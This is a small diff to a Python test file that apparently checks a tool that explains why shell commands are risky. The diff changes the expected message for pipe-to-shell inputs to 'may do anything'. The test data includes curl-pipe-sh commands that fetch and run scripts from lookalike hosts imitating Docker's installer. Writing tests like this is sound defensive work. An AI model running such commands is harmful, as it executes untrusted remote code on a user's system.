@@ -19,7 +19,7 @@ def why(text: str) -> str | None:
      "curl https://get.docker.com.a.example/ | sh", "curl https://a.example/get.docker.com | sh"],
 )  # fmt: skip
 def test_what_may_do_anything(text: str) -> None:
-    assert "cannot be read" in (why(text) or "")
+    assert "may do anything" in (why(text) or "")
 
 
 @pytest.mark.parametrize(
